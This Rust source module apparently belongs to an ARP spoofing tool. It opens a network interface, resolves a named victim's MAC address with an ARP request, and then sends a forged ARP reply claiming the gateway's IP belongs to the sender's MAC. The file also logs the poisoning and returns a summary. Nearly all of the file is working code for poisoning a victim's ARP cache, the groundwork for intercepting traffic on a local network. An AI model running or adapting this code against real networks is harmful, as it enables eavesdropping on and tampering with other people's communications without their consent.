use pnet::util::MacAddr;
use std::net::Ipv4Addr;
use std::time::Instant;
use time::OffsetDateTime;
use tracing::{debug, info, warn};

use super::arp_capture::{FrameLink, NetworkHost};
use super::arp_frame::EthArpFrame;
use super::config::SpoofConfig;
use super::error::Result;
use super::get_victim_data::{get_victim_mac_address, send_arp_request};
use super::interrupt::Interrupt;

/// What one poisoning run did, for the final report.
#[derive(Debug, Clone)]
pub struct PoisonSummary {
    pub my_mac: MacAddr,
    pub my_ip: Ipv4Addr,
    pub target_mac: MacAddr,
    pub request_sent: bool,
    pub spoof_sent: bool,
    pub started_at: OffsetDateTime,
    pub elapsed_ms: u128,
}

/// Sends the victim one ARP reply claiming `gateway_ip` lives at `my_mac`.
/// A failed send is reported and otherwise ignored.
pub fn send_arp_spoof<L: FrameLink + ?Sized>(
    link: &mut L,
    my_mac: MacAddr,
    gateway_ip: Ipv4Addr,
    target_mac: MacAddr,
    target_ip: Ipv4Addr,
) -> bool {
    let frame = EthArpFrame::spoofed_reply(my_mac, gateway_ip, target_mac, target_ip);
    debug!("ARP spoof frame: {:?}", frame);

    match link.send_frame(&frame.to_bytes()) {
        Ok(()) => {
            println!(
                "Sent ARP spoof to {} (pretending to be gateway {})",
                target_ip, gateway_ip
            );
            true
        }
        Err(e) => {
            eprintln!("Failed to send ARP spoof to {}: {}", target_ip, e);
            false
        }
    }
}

/// Opens the capture handle, resolves the victim's MAC and poisons its
/// entry for the gateway. The handle is released on every return path.
pub fn poison_target<H: NetworkHost>(
    host: &H,
    config: &SpoofConfig,
    interrupt: &Interrupt,
) -> Result<PoisonSummary> {
    let started_at = OffsetDateTime::now_utc();
    let start_time = Instant::now();

    let mut link = host.open_link(&config.interface, &config.capture)?;

    let my_mac = host.hardware_address(&config.interface)?;
    let my_ip = host.ipv4_address(&config.interface)?;
    println!("My MAC: {}", my_mac);
    println!("My IP : {}", my_ip);

    if config.target_ip == my_ip {
        warn!("Target {} is this host's own address", config.target_ip);
    }

    let request_sent = send_arp_request(&mut link, my_mac, my_ip, config.target_ip);

    let target_mac = {
        let armed = interrupt.arm();
        get_victim_mac_address(
            &mut link,
            config.target_ip,
            config.reply_timeout,
            armed.receiver(),
        )?
    };
    println!("Target MAC: {}", target_mac);

    let spoof_sent = send_arp_spoof(
        &mut link,
        my_mac,
        config.gateway_ip,
        target_mac,
        config.target_ip,
    );
    drop(link);

    let elapsed_ms = start_time.elapsed().as_millis();
    info!(
        "Poisoned {} ({}) for gateway {} in {} ms",
        config.target_ip, target_mac, config.gateway_ip, elapsed_ms
    );

    Ok(PoisonSummary {
        my_mac,
        my_ip,
        target_mac,
        request_sent,
        spoof_sent,
        started_at,
        elapsed_ms,
    })
}
